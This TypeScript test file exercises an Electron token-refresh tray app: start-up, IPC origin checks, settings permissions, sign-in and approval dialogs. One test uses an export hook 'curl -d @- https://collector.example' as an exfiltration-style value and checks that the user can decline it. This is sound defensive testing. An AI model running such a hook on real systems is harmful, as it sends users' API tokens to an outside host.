import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import { startSimulator, type TorusSimulator } from '../scripts/simulator/torus-simulator.js';
import { createCore } from '../main/core/use-cases/core.js';
import { Vault, type SecretBackend } from '../main/core/infra/keychain.js';
import { profileState, refresh } from '../main/core/use-cases/tokens.js';
import { addProfile } from '../main/core/domain/profiles.js';
import type { ProfileMode } from '../main/core/domain/settings-schema.js';
import { ipcName } from '../preload/contract.js';
import type { AppState, InvokeChannel, Result } from '../preload/contract.js';
import type { FakeBrowserWindow, FakeWebContents } from './helpers/fake-electron.js';
import { statSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { APP_INDEX_URL } from '../main/app-protocol.js';
import { RENDERER_CSP } from '../main/security.js';
import { tempDir, uniqueProfileId, distinctiveCredentials } from './helpers/core-fixtures.js';

/**
 * The composition root under the fake `electron` module, with everything else real: the
 * keychain (throwaway Secret Service), the settings file, and HTTP to the simulator, whose
 * request tokens are single-use.
 */
const fake = await vi.hoisted(async () => (await import('./helpers/fake-electron.js')).createFakeElectron());
vi.mock('electron', () => fake);
const { startApp } = await import('../main/app-main.js');
type Running = NonNullable<Awaited<ReturnType<typeof startApp>>>;

const TOTP_SECRET = 'JBSWY3DPEHPK3PXP';
let sim: TorusSimulator;
let config: { path: string; remove: () => void };
let running: Running | null = null;
const vault = new Vault();
const quiet = () => undefined;
const seeded: string[] = [];

beforeAll(async () => {
  sim = await startSimulator({ totpSecret: TOTP_SECRET });
});
afterAll(async () => {
  await sim.close();
});
beforeEach(() => {
  fake.__test.reset();
  config = tempDir('torus-app-main');
  sim.setFault('none');
  sim.resetLog();
});
afterEach(async () => {
  running?.shutdown();
  running = null;
  // Windows a test left open (a sign-in window) would outlive the world's reset.
  for (const window of [...fake.__test.windows]) window.destroy();
  for (const id of seeded.splice(0)) await vault.deleteProfile(id);
  config.remove();
});

const hhmm = (ms: number) => new Date(ms).toISOString().slice(11, 16);

/**
 * A profile with credentials saved, as after setup. `quietNow` puts the present moment inside
 * (true) or outside (false) the quiet hours between the daily cutoff and the ready-by time.
 */
async function seedProfile(options: { mode?: ProfileMode; quietNow?: boolean; atLogin?: boolean } = {}): Promise<string> {
  const creds = distinctiveCredentials();
  sim.update({ apiKey: creds.apiKey, apiSecret: creds.apiSecret });
  const id = uniqueProfileId('app');
  seeded.push(id);
  const core = await createCore({ configDir: config.path });
  const now = Date.now();
  await core.settings.update((draft) => {
    const p = addProfile(draft, { name: id, baseUrl: sim.url, totpBaseUrl: sim.url, mode: options.mode ?? 'request-token' });
    draft.activeProfileId = p.id;
    draft.refresh.cutoffZone = 'UTC';
    draft.refresh.atLogin = options.atLogin ?? true;
    if (options.quietNow) {
      draft.refresh.cutoffTime = hhmm(now - 3_600_000);
      p.readyBy = hhmm(now + 3_600_000);
    } else {
      // Cutoff and ready-by an hour or two ahead: now is outside the quiet hours.
      draft.refresh.cutoffTime = hhmm(now + 3_600_000);
      p.readyBy = hhmm(now + 7_200_000);
    }
  });
  await vault.set(id, 'apiKey', creds.apiKey);
  await vault.set(id, 'apiSecret', creds.apiSecret);
  if (options.mode === 'totp') await vault.set(id, 'totpSecret', TOTP_SECRET);
  else await vault.set(id, 'requestToken', sim.issueRequestToken());
  return id;
}

/**
 * Starts the app as Electron would: before `ready` (the fake launches and becomes ready on a
 * later turn, refusing windows, trays and sessions until then).
 */
async function start(
  argv: string[] = ['electron', '.'],
  extra: { networkPollMs?: number; platform?: NodeJS.Platform; log?: (line: string) => void; env?: NodeJS.ProcessEnv; keychain?: SecretBackend } = {},
): Promise<Running> {
  fake.__test.launch();
  const { env, ...rest } = extra;
  const app = await startApp({ argv, env: env ?? { ...process.env, TORUS_TOKEN_CONFIG_DIR: config.path }, platform: 'linux', log: quiet, ...rest });
  if (!app) throw new Error('startApp returned null');
  running = app;
  return app;
}

type PopoverContents = FakeWebContents;
const popoverContents = (app: Running): PopoverContents => app.popover.window.webContents as unknown as PopoverContents;
/** A call from the popover's own page, as its preload makes it. */
const invoke = (app: Running, channel: InvokeChannel, payload: unknown): Promise<unknown> =>
  fake.ipcMain.invoke(ipcName(channel), payload, { sender: popoverContents(app) });

const status = (app: Running, id: string) => profileState(app.core, id).status;
const notifications = () => fake.__test.world.shownNotifications.map((n) => `${n.title} | ${n.body}`);

describe('the app at start-up', () => {
  it('first run (no profile): the popover opens for the guided setup', async () => {
    const app = await start();
    await app.startup;
    // Shown once its page has painted (ready-to-show), not before: no white flash.
    await vi.waitFor(() => expect(app.popover.isVisible()).toBe(true));
    expect((app.popover.window as unknown as { flashedWhite: boolean }).flashedWhite).toBe(false);
    expect(fake.__test.lastTray().tooltip).toMatch(/not set up/i);
  });

  it('a start at login (--hidden) gets the token on its own and shows no window; nothing needed the trader, so nothing notifies', async () => {
    const id = await seedProfile();
    const app = await start(['electron', '.', '--hidden']);
    await app.startup;
    await app.settle();
    expect(sim.requestCount('generate')).toBe(1);
    expect(app.popover.isVisible()).toBe(false);
    expect(status(app, id)).toBe('fresh');
    expect(fake.__test.lastTray().tooltip).toMatch(/token fresh until \d\d:\d\d/);
    expect(notifications()).toEqual([]);
  });

  it('every start checks the tokens, not only a detected login launch; "refresh at login" off means no refresh at all', async () => {
    const id = await seedProfile({ atLogin: false });
    const app = await start(['electron', '.']); // an ordinary start
    await app.startup;
    expect(sim.requestCount('generate')).toBe(0);
    expect(status(app, id)).toBe('none');
  });

  it('a spent request token at start, inside the quiet hours: needs sign-in, silently', async () => {
    const id = await seedProfile({ quietNow: true });
    const first = await start(['electron', '.', '--hidden']);
    await first.startup;
    first.shutdown();
    // The next morning: yesterday's request token is spent; the start tries it once.
    fake.__test.reset();
    await vault.set(id, 'requestToken', (await vault.get(id, 'requestToken'))!);
    const core = await createCore({ configDir: config.path });
    await core.settings.update((d) => void (d.tokens[id]!.expiresAt = Date.now() - 1_000));
    const app = await start(['electron', '.', '--hidden']);
    await app.startup;
    await app.settle();
    expect(sim.requestCount('generate')).toBe(2);
    expect(status(app, id)).toBe('needs-sign-in');
    expect(notifications()).toEqual([]);
    expect(fake.__test.lastTray().tooltip).toMatch(/sign-in needed/);
  });

  it('a refused request token at start, after the ready-by time: one notification naming the profile; clicking it opens the sign-in window', async () => {
    const id = await seedProfile();
    sim.setFault('reject-401', { routes: ['generate'] });
    const app = await start(['electron', '.', '--hidden']);
    await app.startup;
    await app.settle();
    expect(status(app, id)).toBe('needs-sign-in');
    await vi.waitFor(() => expect(notifications()).toHaveLength(1));
    expect(notifications()[0]).toContain(id);
    expect(notifications()[0]).toMatch(/sign in/i);
    const windowsBefore = fake.__test.world.windows.length;
    fake.__test.world.shownNotifications.at(-1)!.notification.click();
    await vi.waitFor(() => expect(fake.__test.world.windows.length).toBe(windowsBefore + 1));
    const signIn = fake.__test.lastWindow();
    expect(signIn.webContents.getURL()).toContain('/connect/login/');
    signIn.close();
  });

  it('the option to open the sign-in window by itself does so at start instead of notifying', async () => {
    const id = await seedProfile();
    const core = await createCore({ configDir: config.path });
    await core.settings.update((d) => void (d.profiles.find((p) => p.id === id)!.signInAtReadyBy = true));
    await vault.delete(id, 'requestToken'); // nothing to try: sign-in is needed
    const app = await start(['electron', '.', '--hidden']);
    await app.startup;
    const signInWindows = () => fake.__test.world.windows.filter((w) => w.webContents.getURL().includes('/connect/login/'));
    await vi.waitFor(() => expect(signInWindows()).toHaveLength(1));
    expect(notifications()).toEqual([]);
    expect(sim.requestCount('generate')).toBe(0);
  });

  it('a second launch opens the popover of the running instance; without the lock it quits', async () => {
    const app = await start(['electron', '.', '--hidden']);
    await app.startup;
    expect(app.popover.isVisible()).toBe(false);
    fake.app.secondInstance();
    await vi.waitFor(() => expect(app.popover.isVisible()).toBe(true));
    // (One fake `app` stands for both processes here: the running one is stopped first.)
    app.shutdown();
    running = null;

    fake.__test.world.singleInstanceLock = false;
    const quitsBefore = fake.__test.world.quitCalls;
    expect(await startApp({ env: { ...process.env, TORUS_TOKEN_CONFIG_DIR: config.path }, log: quiet })).toBeNull();
    expect(fake.__test.world.quitCalls).toBe(quitsBefore + 1);
  });
});

describe('the running app', () => {
  it('answers our renderer over IPC and refuses a foreign page', async () => {
    const id = await seedProfile();
    const app = await start(['electron', '.', '--hidden']);
    const ours = (await invoke(app, 'state:get', null)) as Result<AppState>;
    expect(ours.ok).toBe(true);
    if (ours.ok) expect(ours.value.activeProfileId).toBe(id);
    const foreign = (await fake.ipcMain.invoke(ipcName('token:reveal'), {}, { senderUrl: 'https://evil.example/' })) as Result<unknown>;
    expect(foreign).toMatchObject({ ok: false, error: { kind: 'forbidden' } });
  });

  it("the app's settings writes go through electron-store (0600), under the same lock as the CLI's, and electron-store's renderer channel is closed", async () => {
    const id = await seedProfile({ atLogin: false });
    const app = await start(['electron', '.', '--hidden']);
    await app.startup;
    const { statSync, readFileSync } = await import('node:fs');
    const { join } = await import('node:path');
    const file = join(config.path, 'config.json');
    await invoke(app, 'profiles:update', { profileId: id, readyBy: '09:05' });
    const text = readFileSync(file, 'utf8');
    expect(text).toMatch(/^\{\n\t"schemaVersion": 2,/); // electron-store's (conf's) format, not the CLI's
    expect(JSON.parse(text).profiles[0].readyBy).toBe('09:05');
    expect(statSync(file).mode & 0o777).toBe(0o600);
    expect(fake.ipcMain.listenerCount('electron-store-get-data')).toBe(0);
    // A CLI write in between is kept by the app's next write (it re-reads under the lock).
    const cli = await createCore({ configDir: config.path });
    await cli.settings.update((d) => void (d.clipboard.autoClearSeconds = 42));
    await invoke(app, 'profiles:update', { profileId: id, readyBy: '09:10' });
    const after = JSON.parse(readFileSync(file, 'utf8'));
    expect(after.clipboard.autoClearSeconds).toBe(42);
    expect(after.profiles[0].readyBy).toBe('09:10');
  });

  it('a hook command set from the popover runs only after a native "Allow" dialog', async () => {
    const id = await seedProfile();
    const app = await start(['electron', '.', '--hidden']);
    fake.__test.world.dialogResponse = 1; // Cancel
    const declined = (await invoke(app, 'profiles:update', {
      profileId: id,
      exportHookCommand: 'curl -d @- https://collector.example',
    })) as Result<AppState>;
    expect(declined).toMatchObject({ ok: false, error: { kind: 'invalid-input' } });
    expect(String(fake.__test.world.messageBoxes.at(-1)?.detail)).toContain('curl -d @- https://collector.example');
    fake.__test.world.dialogResponse = 0; // Allow
    const allowed = (await invoke(app, 'profiles:update', { profileId: id, exportHookCommand: 'cat > /dev/null' })) as Result<AppState>;
    expect(allowed.ok).toBe(true);
    if (allowed.ok) expect(allowed.value.profiles.find((p) => p.id === id)?.exportHookCommand).toBe('cat > /dev/null');
  });

  it('a change by the CLI (another process) reaches the running app: tray and popover update', async () => {
    const id = await seedProfile();
    const app = await start(['electron', '.', '--hidden']);
    await app.startup;
    const sent = app.popover.window.webContents as unknown as { sent: Array<{ channel: string; args: unknown[] }> };
    const before = sent.sent.length;
    const cli = await createCore({ configDir: config.path });
    await cli.settings.update((draft) => void (draft.profiles.find((p) => p.id === id)!.name = 'Renamed by CLI'));
    await vi.waitFor(() => {
      const pushed = sent.sent.slice(before).filter((m) => m.channel === ipcName('state:changed'));
      expect(JSON.stringify(pushed.at(-1)?.args)).toContain('Renamed by CLI');
    });
    expect(fake.__test.lastTray().tooltip).toMatch(/token fresh/);
  });

  it('"Refresh now" in the tray menu refreshes that profile, and state changes reach the popover', async () => {
    const id = await seedProfile({ atLogin: false });
    const app = await start();
    await app.startup;
    const menu = fake.__test.lastTray().contextMenu!;
    menu.clickItem(/Refresh now/);
    await vi.waitFor(() => expect(sim.requestCount('generate')).toBe(1));
    await vi.waitFor(() => expect(status(app, id)).toBe('fresh'));
    const sent = app.popover.window.webContents as unknown as { sent: Array<{ channel: string }> };
    expect(sent.sent.some((m) => m.channel === ipcName('state:changed'))).toBe(true);
  });

  it('waking from sleep re-checks: a TOTP token that went stale meanwhile is refreshed silently', async () => {
    const id = await seedProfile({ mode: 'totp' });
    const app = await start(['electron', '.', '--hidden']);
    await app.startup;
    expect(sim.requestCount('totp')).toBe(1);
    // The machine slept past the expiry.
    await app.core.settings.update((draft) => void (draft.tokens[id]!.expiresAt = Date.now() - 1000));
    fake.powerMonitor.emit('resume');
    // A TOTP code is never sent in the last 3 s of its window: the refresh may wait that long.
    await vi.waitFor(() => expect(sim.requestCount('totp')).toBe(2), { timeout: 5_000 });
    await vi.waitFor(() => expect(status(app, id)).toBe('fresh'));
  });

  it('regression: when the network comes back after a network failure, the refresh is retried at once (not after the backoff)', async () => {
    const id = await seedProfile({ mode: 'totp', atLogin: false });
    const app = await start(['electron', '.'], { networkPollMs: 20 });
    await app.startup;
    fake.__test.world.online = false;
    sim.setFault('reset', { routes: ['totp'] });
    await expect(refresh(app.core, id, 'manual')).rejects.toMatchObject({ kind: 'network' });
    const failed = sim.requestCount('totp');
    expect(status(app, id)).toBe('failed');
    // Still offline: nothing is retried (the schedule's own retry is a minute away).
    await new Promise((resolve) => setTimeout(resolve, 100));
    expect(sim.requestCount('totp')).toBe(failed);
    sim.setFault('none');
    fake.__test.world.online = true;
    await vi.waitFor(() => expect(status(app, id)).toBe('fresh'), { timeout: 5_000 });
    expect(sim.requestCount('totp')).toBe(failed + 1);
  });

  it('quitting takes our token off the clipboard (only if it is still there)', async () => {
    const id = await seedProfile({ mode: 'totp' });
    const app = await start(['electron', '.', '--hidden']);
    await app.startup;
    const copied = (await invoke(app, 'token:copy', { profileId: id })) as Result<unknown>;
    expect(copied.ok).toBe(true);
    await vi.waitFor(async () => expect((await fake.clipboard.readText()).length).toBeGreaterThan(10));
    fake.app.quit();
    await vi.waitFor(async () => expect(await fake.clipboard.readText()).toBe(''));
  });

  it('the network watch holds no timer while online or idle, and one while offline after a failure', async () => {
    const { createNetworkWatch } = await import('../main/app-main.js');
    let online = true;
    let pending = 0;
    let backs = 0;
    const timers = {
      setTimeout: (cb: () => void) => (pending++, setTimeout(() => (pending--, cb()), 1)),
      clearTimeout: (h: unknown) => (pending--, clearTimeout(h as NodeJS.Timeout)),
      now: () => Date.now(),
    };
    const watch = createNetworkWatch(
      () => online,
      timers,
      () => backs++,
      1,
    );
    watch.update(true); // a failure, but online: the backoff handles it
    expect(watch.watching).toBe(false);
    online = false;
    watch.update(true);
    watch.update(true);
    expect(pending).toBe(1);
    online = true;
    await vi.waitFor(() => expect(backs).toBe(1));
    expect(watch.watching).toBe(false);
    online = false;
    watch.update(true);
    watch.update(false); // the failure is gone (e.g. a manual refresh worked)
    expect(watch.watching).toBe(false);
    expect(pending).toBe(0);
  });
});

describe('the app in the real runtime’s order of events', () => {
  const env = () => ({ ...process.env, TORUS_TOKEN_CONFIG_DIR: config.path });

  for (const [name, relaunch] of [
    ['a second launch (second-instance)', () => fake.app.secondInstance()],
    ['a reopen from Finder or Spotlight (macOS activate)', () => fake.app.activate()],
  ] as const) {
    it(`${name} that arrives before the app is ready still shows the popover once it is`, async () => {
      fake.__test.launch({ manual: true });
      const starting = startApp({ argv: ['electron', '.', '--hidden'], env: env(), platform: 'linux', log: quiet });
      // Before `ready`: the popover's scheme is registered (Electron accepts it only now), and
      // nothing that Electron refuses before ready was attempted.
      expect(fake.__test.world.privilegedSchemes?.map((s) => s.scheme)).toEqual(['torus-token']);
      expect(fake.__test.windows).toHaveLength(0);
      expect(fake.__test.trays).toHaveLength(0);
      relaunch();
      fake.__test.emitReady();
      const app = await starting;
      if (!app) throw new Error('startApp returned null');
      running = app;
      await app.startup;
      await vi.waitFor(() => expect(app.popover.isVisible()).toBe(true));
    });
  }

  it('activate on a running app shows the popover', async () => {
    const app = await start(['electron', '.', '--hidden'], { platform: 'darwin' });
    await app.startup;
    expect(app.popover.isVisible()).toBe(false);
    fake.app.activate();
    await vi.waitFor(() => expect(app.popover.isVisible()).toBe(true));
  });

  it('a relative TORUS_TOKEN_CONFIG_DIR is resolved (app.setPath throws on it), and a missing folder is created private', async () => {
    const relative = path.relative(process.cwd(), path.join(config.path, 'first-run'));
    expect(path.isAbsolute(relative)).toBe(false);
    expect(() => fake.app.setPath('userData', relative)).toThrow('Path must be absolute');
    await start(['electron', '.', '--hidden'], { env: { ...process.env, TORUS_TOKEN_CONFIG_DIR: relative } });
    const absolute = path.join(config.path, 'first-run');
    expect(fake.__test.world.paths['userData']).toBe(absolute);
    expect(statSync(absolute).mode & 0o777).toBe(0o700);
  });

  it("a packaged app ignores TORUS_TOKEN_CONFIG_DIR and TORUS_TOKEN_KEYCHAIN_SERVICE (a side door for whatever sets a login item's environment)", async () => {
    const home = path.join(config.path, 'home');
    const services = new Set<string>();
    const keychain: SecretBackend = {
      get: async (service) => (services.add(service), null),
      set: async (service) => void services.add(service),
      delete: async (service) => (services.add(service), false),
    };
    fake.__test.world.isPackaged = true;
    const env = { PATH: process.env.PATH, HOME: home, TORUS_TOKEN_CONFIG_DIR: config.path, TORUS_TOKEN_KEYCHAIN_SERVICE: 'Side Door' };
    const app = await start(['electron', '.', '--hidden'], { env, keychain });
    await app.startup;
    expect(fake.__test.world.paths['userData']).toBe(path.join(home, '.config', 'Torus Token'));
    await app.core.vault.get('main', 'apiKey');
    expect([...services]).toEqual(['Torus Token']);
  });

  it('a settings folder that cannot be created does not stop the app; the first write says why and where', async () => {
    const blocker = path.join(config.path, 'not-a-folder');
    writeFileSync(blocker, '');
    const unusable = path.join(blocker, 'settings');
    const app = await start(['electron', '.'], { env: { ...process.env, TORUS_TOKEN_CONFIG_DIR: unusable } });
    await app.startup;
    await vi.waitFor(() => expect(app.popover.isVisible()).toBe(true));
    expect(fake.__test.lastTray().tooltip).toMatch(/not set up/i);
    // The popover says what is wrong, in a banner.
    expect((await app.view.state()).warnings).toContainEqual(
      expect.stringMatching(/settings file .*not-a-folder.*a file is where a folder should be \(ENOTDIR\)/),
    );
    const failure = await app.core.settings.update((d) => void (d.clipboard.autoClearSeconds = 45)).catch((error: unknown) => error);
    expect(failure).toMatchObject({ kind: 'filesystem', message: expect.stringContaining(unusable) as unknown });
  });

  it('the popover page comes from the app scheme, with the strict CSP header', async () => {
    const app = await start(['electron', '.', '--hidden']);
    await vi.waitFor(() => expect(popoverContents(app).lastResponse).not.toBeNull());
    const response = popoverContents(app).lastResponse!;
    expect(response.url).toBe(APP_INDEX_URL);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-security-policy')).toBe(RENDERER_CSP);
  });

  it('no default menu (no Reload, no DevTools): none on Linux and Windows, an Edit menu on macOS', async () => {
    const linux = await start(['electron', '.', '--hidden'], { platform: 'linux' });
    expect(fake.__test.world.applicationMenuSet).toBe(true);
    expect(fake.__test.world.applicationMenu).toBeNull();
    linux.shutdown();
    running = null;
    fake.__test.reset();
    await start(['electron', '.', '--hidden'], { platform: 'darwin' });
    const menu = fake.__test.world.applicationMenu;
    expect(menu?.roles()).toEqual(['quit', 'editMenu']);
  });

  it('IPC is answered only for the popover’s own main frame: not a subframe at our URL, not another window showing our page', async () => {
    const app = await start(['electron', '.', '--hidden']);
    const contents = popoverContents(app);
    await vi.waitFor(() => expect(contents.getURL()).toBe(APP_INDEX_URL));
    expect(await invoke(app, 'state:get', null)).toMatchObject({ ok: true });
    const subframe = contents.addFrame(APP_INDEX_URL);
    expect(await fake.ipcMain.invoke(ipcName('state:get'), null, { sender: contents, frame: subframe })).toMatchObject({
      ok: false,
      error: { kind: 'forbidden' },
    });
    const other = new fake.BrowserWindow({ show: false });
    await other.loadURL(APP_INDEX_URL);
    expect(await fake.ipcMain.invoke(ipcName('state:get'), null, { sender: other.webContents })).toMatchObject({ ok: false, error: { kind: 'forbidden' } });
    other.destroy();
  });

  it('a crashed popover renderer is logged and the popover re-created, shown again and trusted again', async () => {
    const lines: string[] = [];
    const app = await start(['electron', '.'], { log: (line) => lines.push(line) });
    await app.startup;
    await vi.waitFor(() => expect(app.popover.isVisible()).toBe(true));
    const crashed = popoverContents(app);
    crashed.crash('oom', 9);
    await vi.waitFor(() => expect(crashed.isDestroyed()).toBe(true));
    expect(lines.join('\n')).toMatch(/renderer process is gone \(oom, exit code 9\)/);
    await vi.waitFor(() => expect(app.popover.isVisible()).toBe(true));
    expect(popoverContents(app)).not.toBe(crashed);
    expect(await invoke(app, 'state:get', null)).toMatchObject({ ok: true });
  });
});

describe('approvals and the popover', () => {
  it('the native approval dialog takes the focus but the popover stays open; a second approval waits for the first', async () => {
    const id = await seedProfile({ atLogin: false });
    const app = await start(['electron', '.']);
    await app.startup;
    await vi.waitFor(() => expect(app.popover.isVisible()).toBe(true));
    const popoverWindow = app.popover.window as unknown as FakeBrowserWindow;
    expect(popoverWindow.isFocused()).toBe(true);

    fake.__test.world.dialogResponse = 'manual';
    const first = invoke(app, 'profiles:update', { profileId: id, exportHookCommand: 'cat > /dev/null # first' });
    await vi.waitFor(() => expect(fake.__test.openDialogs).toHaveLength(1));
    const firstDialog = fake.__test.openDialogs[0]!;
    expect(firstDialog.parent).toBe(popoverWindow);
    expect(String(firstDialog.options.detail)).toContain('# first');
    // The dialog has the focus; the blur it caused did not hide the popover.
    expect(popoverWindow.isFocused()).toBe(false);
    expect(app.popover.isVisible()).toBe(true);

    const second = invoke(app, 'profiles:update', { profileId: id, exportHookCommand: 'cat > /dev/null # second' });
    await new Promise((resolve) => setTimeout(resolve, 50));
    expect(fake.__test.openDialogs).toEqual([firstDialog]);

    firstDialog.answer(0); // Allow
    await vi.waitFor(() => expect(fake.__test.openDialogs.map((d) => String(d.options.detail))).toEqual([expect.stringContaining('# second')]));
    expect(app.popover.isVisible()).toBe(true);
    fake.__test.openDialogs[0]!.answer(1); // Cancel

    expect(await first).toMatchObject({ ok: true });
    expect(await second).toMatchObject({ ok: false });
    expect(app.core.settings.read().profiles.find((p) => p.id === id)?.export.hookCommand).toBe('cat > /dev/null # first');
    // The dialogs are closed: the focus is back, and a click elsewhere hides the popover again.
    expect(popoverWindow.isFocused()).toBe(true);
    popoverWindow.blur();
    expect(app.popover.isVisible()).toBe(false);
  });
});

describe('signing in through the app', () => {
  it('learns the redirect origin from the first top-level redirect, exchanges the token, and clears the profile’s own session', async () => {
    const id = await seedProfile({ atLogin: false });
    await vault.delete(id, 'requestToken');
    const app = await start(['electron', '.', '--hidden']);
    await app.startup;
    fake.__test.lastTray().contextMenu!.clickItem(/Sign in to Torus/);
    const signInWindow = await vi.waitFor(() => {
      const found = fake.__test.windows.find((w) => w.title === 'Sign in to Torus');
      if (!found) throw new Error('no sign-in window yet');
      return found;
    });
    const contents = signInWindow.webContents;
    expect(contents.session.partition).toBe(`torus-signin-${id}`);
    const loginUrl = contents.getURL();
    expect(loginUrl).toContain('/connect/login/');
    // The OTP form posts to the login page; the simulator answers with a redirect to the end URL.
    const outcome = await contents.navigateFully(loginUrl, { redirects: [`${sim.url}/callback?REQUEST_TOKEN=${sim.issueRequestToken()}`] });
    expect(outcome).toEqual({ committed: null, blockedBy: 'will-redirect' });
    await vi.waitFor(() => expect(status(app, id)).toBe('fresh'));
    expect(signInWindow.isDestroyed()).toBe(true);
    await vi.waitFor(() => expect(contents.session.storageCleared).toBe(1));
  });
});
